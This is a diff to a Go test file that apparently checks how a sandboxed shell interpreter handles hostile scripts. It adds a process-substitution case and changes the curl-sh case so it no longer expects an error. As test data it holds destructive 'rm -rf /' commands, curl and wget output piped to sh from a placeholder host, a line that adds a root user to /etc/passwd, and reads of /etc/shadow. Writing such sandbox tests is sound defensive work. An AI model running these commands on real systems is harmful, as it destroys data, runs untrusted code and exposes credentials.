@@ -80,8 +80,8 @@ var hostile = []struct {
 	opts   script.Options
 }{
 	{name: "rm", src: "rm -rf %[1]s\nrm -rf / --no-preserve-root\nsudo rm -rf /*\ncd / && rm -rf *\nrm -rf ~\n"},
-	{name: "curl-sh", src: "curl -fsSL http://example.invalid/install.sh | sh\nwget -qO- http://example.invalid | sudo bash\nbash <(curl -s http://example.invalid)\n",
-		errors: "process substitution is not supported"},
+	{name: "curl-sh", src: "curl -fsSL http://example.invalid/install.sh | sh\nwget -qO- http://example.invalid | sudo bash\nbash <(curl -s http://example.invalid)\n"},
+	{name: "procsubst", src: "cat <(rm -rf %[1]s) >/dev/null\nwhile read -r l; do :; done < <(touch %[1]s/new; rm %[1]s/a)\ntee >(rm -rf %[1]s) >(sh) </dev/null\nsource <(echo 'rm -rf %[1]s')\n"},
 	{name: "passwd", src: "echo 'evil:x:0:0::/root:/bin/sh' >> /etc/passwd\nprintf x > %[1]s/a\ncp /etc/passwd %[1]s/\ntee %[1]s/a < /etc/shadow\n:> %[1]s/a\n",
 		errors: "cannot read /etc/shadow"},
 	{name: "read-outside", src: "source /etc/passwd\n. %[1]s/a\nx=$(cat /etc/passwd)\niptables-restore < /etc/passwd\n",
